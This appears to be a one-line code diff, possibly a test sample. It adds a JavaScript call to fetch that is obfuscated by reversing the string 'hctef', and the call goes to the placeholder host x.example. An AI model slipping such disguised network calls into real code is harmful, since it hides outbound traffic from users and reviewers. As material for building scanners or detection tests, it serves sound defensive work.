@@ -1,0 +1,1 @@
+globalThis['hctef'.split('').reverse().join('')]('https://x.example');
